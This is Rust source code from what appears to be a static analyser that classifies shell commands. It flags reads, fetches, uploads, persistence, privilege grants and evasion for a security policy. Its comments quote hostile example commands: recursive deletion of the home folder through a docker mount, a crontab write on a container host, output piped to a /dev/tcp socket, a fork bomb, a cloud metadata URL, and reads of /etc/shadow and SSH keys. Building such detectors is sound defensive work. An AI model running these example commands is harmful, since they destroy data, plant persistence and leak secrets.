            .chain(std::iter::once("@".to_string()))
            .map(|k| {
                let v = st.vars.get(&k).cloned();
                (k, v)
            })
            .collect();
        self.set_positional(st, inv.rest(), None);
        self.fn_active.push(name.to_string());
        let out = self.walk_compound(&body.0, st, inv.stdin.clone());
        self.fn_active.pop();
        for (k, v) in saved {
            match v {
                Some(v) => std::rc::Rc::make_mut(&mut st.vars).insert(k, v),
                None => std::rc::Rc::make_mut(&mut st.vars).remove(&k),
            };
        }
        out
    }

    /// Sets `$0` (when given), `$1`…`$9` and `$@`.
    pub(crate) fn set_positional(&mut self, st: &mut State, args: &[Arg], zero: Option<&Arg>) {
        if let Some(z) = zero {
            std::rc::Rc::make_mut(&mut st.vars).insert("0".to_string(), Val::from_arg(z));
        }
        for i in 1..=9usize {
            match args.get(i - 1) {
                Some(a) => {
                    std::rc::Rc::make_mut(&mut st.vars).insert(i.to_string(), Val::from_arg(a))
                }
                None => std::rc::Rc::make_mut(&mut st.vars).insert(i.to_string(), Val::known("")),
            };
        }
        let all: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
        let dynamic = args.iter().any(|a| a.dynamic);
        std::rc::Rc::make_mut(&mut st.vars).insert(
            "@".to_string(),
            Val {
                text: all.join(" "),
                dynamic,
                known_prefix: if dynamic { 0 } else { all.join(" ").len() },
                taint: Taint::default(),
            },
        );
    }

    fn run_uncalled_functions(&mut self, st: &State) {
        let mut i = 0;
        while i < self.fn_defs.len() && !self.budget_hit {
            let (uncalled, body) = match self.fn_defs.get_mut(i) {
                Some(def) if def.calls == 0 => {
                    def.calls = 1;
                    (true, def.body.clone())
                }
                _ => (false, Rc::new(ast::FunctionBody(empty_compound(), None))),
            };
            if uncalled {
                let mut sub = st.clone();
                self.walk_compound(&body.0, &mut sub, Stream::default());
            }
            i += 1;
        }
    }

    /// Runs shell code nested in an invocation (`bash -c CODE`, `eval`, decoded payloads) at
    /// depth+1, under the invocation's cwd, environment and wrappers plus `wrapper`.
    pub(crate) fn run_code(
        &mut self,
        code: &str,
        st: &State,
        inv: &Inv,
        wrapper: &str,
        positional: Option<(&Arg, &[Arg])>,
        stdin: Stream,
    ) -> Stream {
        let mut sub = st.clone();
        sub.depth += 1;
        sub.cwd = inv.cwd.clone();
        sub.wrappers = inv.wrappers.clone();
        sub.wrappers.push(wrapper.to_string());
        for (n, v) in &inv.env {
            std::rc::Rc::make_mut(&mut sub.vars).insert(n.clone(), v.clone());
        }
        if let Some((zero, rest)) = positional {
            self.set_positional(&mut sub, rest, Some(zero));
        }
        self.run_source(code, &mut sub, stdin)
    }

    // ----- fact helpers -------------------------------------------------------------------

    /// Records a path access (skipping pseudo-devices) and the persistence it may imply.
    pub(crate) fn add_path(
        &mut self,
        r: &Resolved,
        access: Access,
        how: &str,
        recursive: bool,
        evidence: &str,
    ) {
        if paths::is_pseudo_device(&r.path) {
            return;
        }
        let walk = self
            .tree_globs
            .iter()
            .find(|(g, _)| *g == r.path)
            .map(|(_, w)| *w);
        let mut recursive = recursive;
        let made_folder = how == "mkdir";
        let mut how = how.to_string();
        match walk {
            // Every file below DIR read by a program that prints or sends content: besides
            // the `DIR/*` read itself, the read of DIR, recursive, as `grep -r X DIR` has it
            // (metadata readers are left out: `find / | xargs stat` shows no content).
            Some(crate::model::Walk::Tree | crate::model::Walk::Attr)
                if access == Access::Read && !METADATA_READERS.contains(&how.as_str()) =>
            {
                if let Some(dir) = r.path.strip_suffix("/*") {
                    let tree = Resolved {
                        path: if dir.is_empty() {
                            "/".to_string()
                        } else {
                            dir.to_string()
                        },
                        dynamic: r.dynamic,
                        glob: false,
                    };
                    self.add_path(&tree, access, &how, true, evidence);
                }
            }
            Some(crate::model::Walk::Tree)
                if matches!(access, Access::Delete | Access::Write | Access::Chmod) =>
            {
                recursive = true;
            }
            // A filtered walk's matches anywhere in the tree (`find / -name X | xargs rm`):
            // recursive, marked `filtered` so the policy tells a wide root (/, the home)
            // from a project or temporary folder.
            Some(crate::model::Walk::Filtered | crate::model::Walk::Attr)
                if access == Access::Delete =>
            {
                recursive = true;
                how.push_str(" filtered");
            }
            _ => {}
        }
        let scope = paths::scope(&r.path, r.dynamic, self.ctx);
        let fact = PathFact {
            path: escape_hidden(&r.path),
            access,
            how: match &self.remote {
                Some(via) => format!("{via}: {how}"),
                None => how,
            },
            recursive,
            glob: r.glob,
            dynamic: r.dynamic,
            scope,
            evidence: clip(evidence),
        };
        if let Some(via) = self.remote.clone() {
            // A container path below a bind mount is this machine's file too (`docker run -v
            // ~:/h alpine rm -rf /h/*` deletes the home's entries).
            let host = self.mounts.iter().find_map(|(inner, outer)| {
                let rest = r.path.strip_prefix(inner.as_str())?;
                (rest.is_empty() || rest.starts_with('/') || inner == "/")
                    .then(|| paths::normalize(&format!("{outer}/{rest}")))
            });
            let host_how = fact.how.replacen(": ", " -v: ", 1);
            self.facts.remote_paths.push(fact);
            if let Some(host) = host {
                let saved = self.remote.take();
                let hr = Resolved {
                    path: host,
                    dynamic: r.dynamic,
                    glob: r.glob,
                };
                self.add_path(&hr, access, &host_how, recursive, evidence);
                self.remote = saved;
            }
            // On a durable host (ssh, a fan-out runner, a cloud run-command console) a write of
            // a start-up file (`/etc/cron.d/x`, a unit, `authorized_keys`) persists there as it
            // would here, and a write or delete of its logs wipes a trace there: the same facts
            // as here, the path named with the host. A container's files go with it.
            if durable_host(&via) && r.path.starts_with('/') && !r.dynamic {
                if matches!(access, Access::Write | Access::Create) {
                    crate::persist::for_path(self, &r.path, evidence);
                }
                if matches!(access, Access::Write | Access::Delete) {
                    crate::programs::system::for_path(self, &r.path, evidence);
                }
            }
            // Writes on the other side are that system's business, except into another root
            // mounted there (`kubectl exec pod -- sh -c 'echo … >> /host/etc/crontab'`): from a
            // container that is the node's or host's file system (a `hostPath` mount), and its
            // start-up files outlive the container.
            if matches!(access, Access::Write | Access::Create) {
                if let Some((kind, _)) = paths::other_root(&r.path)
                    .and_then(|inner| crate::persist::classify(inner, self.ctx))
                {
                    self.persistence(kind, &format!("{via}: {}", r.path), evidence);
                }
            }
            return;
        }
        self.facts.paths.push(fact);
        // An empty folder made by mkdir runs nothing at start-up (`mkdir -p
        // ~/.config/systemd/user`); what is then copied into it is a write of its own.
        if matches!(access, Access::Write | Access::Create) && !made_folder {
            crate::persist::for_path(self, &r.path, evidence);
        }
        if matches!(access, Access::Write | Access::Delete) && !r.dynamic {
            crate::programs::system::for_path(self, &r.path, evidence);
        }
    }

    /// Records a path access named by an argument, resolved against `cwd`.
    pub(crate) fn path_arg(
        &mut self,
        cwd: &Cwd,
        a: &Arg,
        access: Access,
        how: &str,
        recursive: bool,
    ) -> Resolved {
        let r = paths::resolve(a, cwd);
        let ev: &str = if a.raw.is_empty() { &a.text } else { &a.raw };
        self.add_path(&r, access, how, recursive, ev);
        r
    }

    pub(crate) fn fetch(&mut self, url: &str, evidence: &str) {
        // A URL inside the URL (`…/fetch?url=http%3A%2F%2F169.254.169.254%2F…`) is fetched by
        // whatever serves the outer one: a fetch of its own.
        if url.len() < 4096 && (url.matches("http").count() > 1 || url.contains("http%3")) {
            for inner in crate::decode::nested_urls(url) {
                if inner.len() < url.len() {
                    self.fetch(&inner, evidence);
                }
            }
        }
        // A `file://` URL is no fetch: the program reads that local file (curl(1), wget(1),
        // ngrok's `file://` upstream; RFC 8089), so it is judged as a read of the path.
        if let Some(local) = file_url_path(url) {
            let cwd = crate::model::Cwd {
                text: "/".to_string(),
                known: true,
            };
            let r = crate::paths::resolve_text(&local, url.contains('$'), 0, false, &cwd);
            self.add_path(&r, Access::Read, "file:// URL", false, evidence);
            return;
        }
        let host = crate::decode::url_host(url);
        let (h, metadata, encoded) = match &host {
            Some(h) => (h.host.clone(), h.metadata, h.ip_encoded),
            None => (String::new(), false, false),
        };
        if encoded {
            self.obfuscation("ip_encoding", Some(h.clone()), url);
        }
        self.facts.fetches.push(FetchFact {
            url: escape_hidden(url),
            host: h,
            metadata,
            evidence: clip(evidence),
        });
    }

    pub(crate) fn upload(
        &mut self,
        program: &str,
        target: &str,
        source: Option<String>,
        env_dump: bool,
        evidence: &str,
    ) {
        let source = match (source, env_dump) {
            (None, true) => Some("<environment>".to_string()),
            (s, _) => s,
        };
        self.facts.uploads.push(UploadFact {
            program: program.to_string(),
            target: escape_hidden(target),
            source,
            producer: None,
            evidence: clip(evidence),
        });
    }

    pub(crate) fn remote_exec(
        &mut self,
        kind: &str,
        interpreter: &str,
        source: Option<String>,
        evidence: &str,
    ) {
        if kind != "reverse_shell" {
            self.dynamic_code(interpreter, "fetched", source.clone(), &[], evidence);
        }
        self.facts.remote_exec.push(RemoteExecFact {
            kind: kind.to_string(),
            interpreter: interpreter.to_string(),
            source,
            evidence: clip(evidence),
        });
    }

    /// Records code run without its text being known (see [`DynamicCodeFact`]).
    pub(crate) fn dynamic_code(
        &mut self,
        interpreter: &str,
        origin: &str,
        source: Option<String>,
        wrappers: &[String],
        evidence: &str,
    ) {
        self.facts.dynamic_code.push(DynamicCodeFact {
            interpreter: interpreter.to_string(),
            origin: origin.to_string(),
            source: source.map(|s| clip(&s)),
            wrappers: wrappers.to_vec(),
            evidence: clip(evidence),
        });
    }

    /// Records a directory served over the network.
    pub(crate) fn serve(&mut self, program: &str, root: &Resolved, evidence: &str) {
        let scope = paths::scope(&root.path, root.dynamic, self.ctx);
        self.facts.serves.push(ServeFact {
            program: program.to_string(),
            root: escape_hidden(&root.path),
            scope,
            evidence: clip(evidence),
        });
    }

    pub(crate) fn decoded_exec(
        &mut self,
        decoder: &str,
        interpreter: &str,
        payload: Option<&str>,
        evidence: &str,
    ) {
        self.dynamic_code(
            interpreter,
            "decoded",
            Some(decoder.to_string()),
            &[],
            evidence,
        );
        self.facts.decoded_exec.push(DecodedExecFact {
            decoder: decoder.to_string(),
            interpreter: interpreter.to_string(),
            payload: payload.map(clip),
            evidence: clip(evidence),
        });
    }

    pub(crate) fn privilege(&mut self, kind: &str, program: &str, evidence: &str) {
        if let Some(via) = self.remote.clone() {
            // `ssh host sudo systemctl restart x`: privileges on that host, not on this one. A
            // lasting grant there — sudoers written, a setuid bit set — outlives
            // the command on a durable host as a planted start-up file does (`persistence`,
            // kind `privilege_grant`).
            // (A capability given to one server binary, `setcap cap_net_bind_service=+ep caddy`,
            // is a documented set-up step: not counted.)
            if durable_host(&via) && matches!(kind, "sudoers" | "setuid") {
                self.persistence("privilege_grant", &format!("{via}: {kind}"), evidence);
            }
            // Files made writable by every user there (`ssh web 'chmod -R 777 ~/public_html'`):
            // the host's permission boundary opened (MITRE ATT&CK T1222, a defence-evasion
            // technique), judged by the policy as a remote change (`permissions_opened`).
            if durable_host(&via) && kind == "world_writable" {
                self.evasion("permissions_opened", program, evidence);
            }
            return;
        }
        self.facts.privilege.push(PrivilegeFact {
            kind: kind.to_string(),
            program: program.to_string(),
            evidence: clip(evidence),
        });
    }

    pub(crate) fn persistence(&mut self, kind: &str, target: &str, evidence: &str) {
        self.facts.persistence.push(PersistenceFact {
            kind: kind.to_string(),
            target: escape_hidden(target),
            evidence: clip(evidence),
        });
    }

    pub(crate) fn evasion(&mut self, kind: &str, target: &str, evidence: &str) {
        // On another host or in a container the target is named with where it is (`ssh web1:
        // journalctl`), as remote paths' `how` is: the policy tells that side's upkeep apart.
        let target = match &self.remote {
            Some(via) if !target.starts_with(via.as_str()) => format!("{via}: {target}"),
            _ => target.to_string(),
        };
        self.facts.evasion.push(crate::facts::EvasionFact {
            kind: kind.to_string(),
            target: escape_hidden(&target),
            evidence: clip(evidence),
        });
    }

    pub(crate) fn env_tamper(&mut self, name: &str, value: &str, evidence: &str) {
        self.facts.env_tamper.push(EnvTamperFact {
            name: name.to_string(),
            value: clip(value),
            evidence: clip(evidence),
        });
    }

    /// Reports an assignment when the variable is one that changes what runs.
    pub(crate) fn check_env(&mut self, name: &str, val: &Val, evidence: &str) {
        self.check_env_in(name, val, evidence, false);
    }

    /// [`Self::check_env`] for a bare assignment statement (`NAME=value` with no command and
    /// no `export`): the variable stays in this shell. A variable only an interactive shell reads
    /// (`PROMPT_COMMAND`, [`INTERACTIVE_ONLY`]) then has no effect, since the agent's shell is not
    /// interactive and a child shell does not inherit it; its code is still analysed.
    pub(crate) fn check_env_local(&mut self, name: &str, val: &Val, evidence: &str) {
        self.check_env_in(name, val, evidence, true);
    }

    fn check_env_in(&mut self, name: &str, val: &Val, evidence: &str, local: bool) {
        // Prompt strings are expanded, command substitutions included, each time bash shows
        // them (PS4 before every traced command with `xtrace`); PROMPT_COMMAND is run.
        if matches!(name, "PS1" | "PS2" | "PS3" | "PS4" | "PROMPT_COMMAND")
            && (val.text.contains("$(") || val.text.contains('`') || name == "PROMPT_COMMAND")
            && val.text.len() < 4096
        {
            let codes = if name == "PROMPT_COMMAND" {
                vec![val.text.clone()]
            } else {
                crate::expand::arith_substitutions(&val.text)
            };
            for code in codes {
                let mut st = self.initial_state();
                st.depth = 2;
                self.run_source(&code, &mut st, Stream::default());
            }
        }
        if crate::programs::system::history_off(name, &val.text) {
            self.evasion("history", name, evidence);
        } else if crate::programs::system::tool_history_off(name, &val.text) {
            self.evasion("tool_history", name, evidence);
        }
        if local && INTERACTIVE_ONLY.contains(&name) {
            return;
        }
        // The value as written (`HOME="$(mktemp -d)"`): the expanded one stands for mktemp's
        // output (`/tmp/tmp.XXXXXXXXXX`) and no longer says the folder is new.
        let written = evidence.split_once('=').map_or("", |(_, v)| v);
        if name.eq_ignore_ascii_case("HOME") && crate::persist::fresh_temp_dir(written) {
            return;
        }
        // git's global or system config pointed at a new empty file isolates git from the
        // user's configuration, as `/dev/null` does.
        if matches!(name, "GIT_CONFIG_GLOBAL" | "GIT_CONFIG_SYSTEM")
            && crate::persist::fresh_mktemp(written, false)
        {
            return;
        }
        if crate::persist::is_tamper_var(name) && crate::persist::is_tamper(name, val, self.ctx) {
            self.env_tamper(name, &val.text, evidence);
        }
    }

    pub(crate) fn obfuscation(&mut self, kind: &str, resolved: Option<String>, evidence: &str) {
        self.facts.obfuscation.push(ObfuscationFact {
            kind: kind.to_string(),
            resolved,
            evidence: clip(evidence),
        });
    }

    pub(crate) fn git(&mut self, kind: &str, cwd: &Cwd, evidence: &str) {
        self.facts.git.push(GitFact {
            kind: kind.to_string(),
            cwd: cwd.text.clone(),
            evidence: clip(evidence),
        });
    }

    /// The marker of [`Analyzer::outer_tier`] (empty without one).
    pub(crate) fn outer_tier_marker(&self) -> String {
        self.outer_tier
            .as_ref()
            .map(|t| t.1.clone())
            .unwrap_or_default()
    }

    pub(crate) fn infra(&mut self, kind: &str, evidence: &str) {
        self.facts.infra.push(InfraFact {
            kind: kind.to_string(),
            tier: self.outer_tier.as_ref().map(|t| t.0),
            tier_marker: self.outer_tier_marker(),
            evidence: clip(evidence),
        });
    }

    pub(crate) fn publish(&mut self, kind: &str, evidence: &str) {
        self.facts.publish.push(PublishFact {
            kind: kind.to_string(),
            evidence: clip(evidence),
        });
    }

    pub(crate) fn signal(
        &mut self,
        program: &str,
        signal: Option<String>,
        targets: Vec<String>,
        evidence: &str,
    ) {
        self.facts.signals.push(SignalFact {
            program: program.to_string(),
            signal,
            targets,
            evidence: clip(evidence),
        });
    }

    pub(crate) fn unanalysable(&mut self, reason: &str, evidence: &str) {
        self.facts.unanalysable.push(UnanalysableFact {
            reason: reason.to_string(),
            evidence: clip(evidence),
            limit: false,
        });
    }

    /// Records that the analysis stopped at one of its limits ([`UnanalysableFact::limit`]).
    pub(crate) fn limit_reached(&mut self, reason: &str, evidence: &str) {
        self.facts.unanalysable.push(UnanalysableFact {
            reason: reason.to_string(),
            evidence: clip(evidence),
            limit: true,
        });
    }
}

pub(crate) struct Redirected {
    pub stdin: Stream,
    pub stdout_file: Option<String>,
    /// Standard output is appended to `stdout_file` (`>>`, `&>>`), not written over it.
    pub stdout_append: bool,
    /// The `host:port` of a `/dev/tcp` or `/dev/udp` socket standard output is written to
    /// (`/readflag > /dev/tcp/h/p`): what the command prints goes to that peer.
    pub stdout_socket: Option<String>,
}

/// `host:port` of a `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` path.
fn socket_target(path: &str) -> Option<String> {
    let rest = path
        .strip_prefix("/dev/tcp/")
        .or_else(|| path.strip_prefix("/dev/udp/"))?;
    let mut p = rest.split('/');
    let host = p.next().unwrap_or("");
    Some(format!("{host}:{}", p.next().unwrap_or("")))
}

/// Most string literals of an unparseable source analysed as commands.
const MAX_PAYLOADS: usize = 16;

/// Consoles whose commands run on a durable machine rather than in a container: ssh, the
/// fan-out runners and configuration managers (their target follows the name), the cloud
/// CLIs' run-command consoles, a Fly Machine's console, an Android device's shell, and the
/// consoles of local VMs and system containers, whose disks outlive the command (multipass,
/// lxc/incus, lxc-attach, vagrant, lima), and a cluster node's debugging container (`kubectl
/// debug node/NAME -- CMD`), and a Drupal site's web server (`drush @alias ssh CMD`). The same list is the policy's `remote_host_consoles` (shell.rego).
pub(crate) const DURABLE_HOST_CONSOLES: &[&str] = &[
    "ssh ",
    "fly ssh console",
    "adb shell",
    "ansible ",
    "salt ",
    "pdsh",
    "pssh",
    "parallel-ssh",
    "clush",
    "gcloud ssh",
    "aws ssm send-command",
    "az vm run-command",
    "multipass exec",
    "lxc exec",
    "incus exec",
    "lxc-attach",
    "vagrant ssh",
    "limactl shell",
    NODE_DEBUG,
    "drush ssh",
];

/// How a command run by `kubectl debug node/NAME -- CMD` (or `oc debug node/NAME`) is marked
/// (`programs/embedded.rs` `kubectl_command`): it runs on a cluster node, a durable machine
/// whose root file system is mounted at `/host`.
pub(crate) const NODE_DEBUG: &str = "kubectl debug node";

/// Whether a remote command marked `via` runs on a durable machine ([`DURABLE_HOST_CONSOLES`]).
pub(crate) fn durable_host(via: &str) -> bool {
    DURABLE_HOST_CONSOLES.iter().any(|c| via.starts_with(c))
}

/// The quoted literals of `src` (`'…'`, `"…"`, and typographic `‘…’`, `“…”`), without their
/// quotes; an opening quote that is never closed is skipped.
pub(crate) fn quoted_literals(src: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some((off, c)) = src.get(i..).and_then(|r| {
        r.char_indices()
            .find(|(_, c)| matches!(c, '\'' | '"' | '‘' | '“'))
    }) {
        let start = i + off + c.len_utf8();
        let close = match c {
            '‘' => '’',
            '“' => '”',
            other => other,
        };
        match src.get(start..).and_then(|r| r.find(close)) {
            Some(len) => {
                out.push(&src[start..start + len]);
                i = start + len + close.len_utf8();
            }
            None => i = start,
        }
    }
    out
}

/// What follows a prompt at the start of `command`: `user@host:dir$ `, `root@box:~# `,
/// `mysql> `, `$ `, or a client's shell escape `\! ` / `! ` before a word. `None` when the
/// first word is not prompt-shaped.
pub(crate) fn after_prompt(command: &str) -> Option<&str> {
    let t = command.trim_start();
    let end = t.find(char::is_whitespace)?;
    let (word, rest) = t.split_at(end);
    let rest = rest.trim_start();
    if rest.is_empty() {
        return None;
    }
    // A tag in parentheses before the prompt: a Python virtualenv or conda environment
    // (`(venv) user@host:~$ `, `(base) …`) or pwncat's `(remote) user@host:/dir$ `.
    if word.len() > 2
        && word.starts_with('(')
        && word.ends_with(')')
        && word[1..word.len() - 1]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    {
        return after_prompt(rest);
    }
    // Parrot's two-line prompt, whose second line keeps the `$`/`#` apart from its glyphs and
    // may glue it to the command (`└──╼ $cp …`, `└──╼ # id`).
    if word.starts_with(['└', '╰'])
        && word
            .chars()
            .all(|c| matches!(c, '└' | '╰' | '─' | '╼' | '╸' | '▶' | '>'))
    {
        let r = rest.strip_prefix(['$', '#'])?.trim_start();
        return (!r.is_empty()).then_some(r);
    }
    let body = word.trim_end_matches(['$', '#', '>', '%']);
    let prompt = match word {
        "\\!" | "$" | ">" | "%" | "❯" | "➜" | "λ" => true,
        // The second line of Kali's and Parrot's two-line zsh prompts (`└─$ `, `└─# `,
        // `╰─$ `).
        w if w.starts_with(['└', '╰']) && w.ends_with(['$', '#']) => true,
        _ => {
            body.len() < word.len()
                && !body.is_empty()
                && (body.contains('@')
                    // `host:~# `, `box:/var/www$ ` (a host and a folder, no user).
                    || body.split_once(':').is_some_and(|(h, d)| {
                        !h.is_empty()
                            && h.chars()
                                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
                            && d.starts_with(['~', '/'])
                    })
                    || body
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
                && !body.contains(['(', ')', '{', '}', '\'', '"', '='])
                && word.ends_with(['$', '#', '>'])
                && !word.starts_with('#')
        }
    };
    prompt.then_some(rest)
}

fn empty_compound() -> ast::CompoundCommand {
    ast::CompoundCommand::BraceGroup(ast::BraceGroupCommand {
        list: ast::CompoundList(Vec::new()),
        loc: Default::default(),
    })
}

/// Quotes or backslashes inside a command word, other than the whole word being quoted
/// (`"rm"`) or one leading backslash (`\rm`, the usual way to skip an alias).
/// Whether a function body runs the function itself twice at once: two calls at command
/// position, and a pipe or a background `&` between commands (`:|:&`, `f & f`). Plain
/// recursion (`f() { …; f; }`) runs one call at a time and is not counted.
fn forks_itself(name: &str, body: &str) -> bool {
    if name.is_empty() || body.len() > 4096 {
        return false;
    }
    let spaced = body
        .replace("&&", " ; ")
        .replace("||", " ; ")
        .replace(['|', '&'], " | ");
    let concurrent = spaced.contains(" | ");
    let mut calls = 0;
    let mut at_command = true;
    for raw in spaced.split_whitespace() {
        let w = raw
            .trim_start_matches(['{', '('])
            .trim_end_matches([';', '}', ')']);
        if (at_command || raw.starts_with(['{', '('])) && w == name {
            calls += 1;
        }
        at_command = matches!(w, "" | "|" | "then" | "do" | "else") || raw.ends_with(';');
    }
    concurrent && calls >= 2
}

fn quoted_inside(raw: &str) -> bool {
    // `/Applications/Visual\ Studio\ Code.app/…`: an escaped space only keeps a path with
    // spaces one word; it hides no letter of the name.
    let unspaced;
    let raw = if raw.contains("\\ ") {
        unspaced = raw.replace("\\ ", " ");
        unspaced.as_str()
    } else {
        raw
    };
    if !raw.contains(['\'', '"', '\\']) {
        return false;
    }
    let quote_free = |s: &str| !s.contains(['\'', '"', '\\']);
    for q in ['\'', '"'] {
        if let Some(inner) = raw.strip_prefix(q).and_then(|r| r.strip_suffix(q)) {
            if quote_free(inner) {
                return false;
            }
        }
    }
    if let Some(rest) = raw.strip_prefix('\\') {
        if quote_free(rest) {
            return false;
        }
    }
    // `$'…'` alone is reported as ANSI-C quoting.
    if let Some(inner) = raw.strip_prefix("$'").and_then(|r| r.strip_suffix('\'')) {
        if !inner.contains('\'') {
            return false;
        }
    }
    true
}

/// Removes exact duplicates from every list, keeping the first occurrence.
/// A cmd switch read as a path by the POSIX reading: `/` and one or two letters, optionally
/// `:value` (`/q`, `/s`, `/FS:NTFS`).
fn windows_switch_path(path: &str) -> bool {
    let Some(rest) = path.strip_prefix('/') else {
        return false;
    };
    let name = rest.split(':').next().unwrap_or("");
    (1..=2).contains(&name.len())
        && name.bytes().all(|b| b.is_ascii_alphabetic() || b == b'?')
        && !rest.get(name.len()..).is_some_and(|r| r.contains('/'))
}

fn finish(mut f: ShellFacts) -> ShellFacts {
    fn dedup<T: Eq + std::hash::Hash>(v: &mut Vec<T>) {
        if v.len() < 2 {
            return;
        }
        let keep: Vec<bool> = {
            // foldhash: SipHash over every field of every fact was ~4 % of the analysis; the
            // seed is random per process, and the result does not depend on it.
            let mut seen = std::collections::HashSet::with_capacity_and_hasher(
                v.len(),
                foldhash::fast::RandomState::default(),
            );
            v.iter().map(|x| seen.insert(x)).collect()
        };
        let mut it = keep.into_iter();
        v.retain(|_| it.next().unwrap_or(true));
    }
    dedup(&mut f.commands);
    dedup(&mut f.paths);
    dedup(&mut f.fetches);
    dedup(&mut f.uploads);
    dedup(&mut f.remote_exec);
    dedup(&mut f.decoded_exec);
    dedup(&mut f.privilege);
    dedup(&mut f.persistence);
    dedup(&mut f.env_tamper);
    dedup(&mut f.obfuscation);
    dedup(&mut f.git);
    dedup(&mut f.infra);
    dedup(&mut f.cloud);
    dedup(&mut f.publish);
    dedup(&mut f.signals);
    dedup(&mut f.unanalysable);
    dedup(&mut f.dynamic_code);
    dedup(&mut f.remote_paths);
    dedup(&mut f.serves);
    dedup(&mut f.evasion);
    dedup(&mut f.denial_of_service);
    dedup(&mut f.secret_search);
    dedup(&mut f.exports);
    f
}

/// The absolute local path a `file://` URL names (`file:///etc/shadow`,
/// `file://localhost/home/a/.ssh/id_rsa`; RFC 8089), with `%XX` escapes of ASCII decoded; `None`
/// for any other URL or a `file://` URL naming another host.
pub(crate) fn file_url_path(url: &str) -> Option<String> {
    let scheme = url.get(..7)?;
    if !scheme.eq_ignore_ascii_case("file://") {
        return None;
    }
    let rest = url.get(7..)?;
    let rest = if rest.len() >= 9 && rest.get(..9)?.eq_ignore_ascii_case("localhost") {
        rest.get(9..)?
    } else {
        rest
    };
    if !rest.starts_with('/') {
        return None;
    }
    let rest = rest.split(['?', '#']).next().unwrap_or(rest);
    let mut out = String::with_capacity(rest.len());
    let mut it = rest.char_indices();
    while let Some((at, c)) = it.next() {
        let escaped = (c == '%')
            .then(|| rest.get(at + 1..at + 3))
            .flatten()
            .and_then(|h| u8::from_str_radix(h, 16).ok())
            .filter(|v| v.is_ascii() && *v != 0);
        match escaped {
            Some(v) => {
                out.push(char::from(v));
                it.next();
                it.next();
            }
            None => out.push(c),
        }
    }
    Some(out)
}
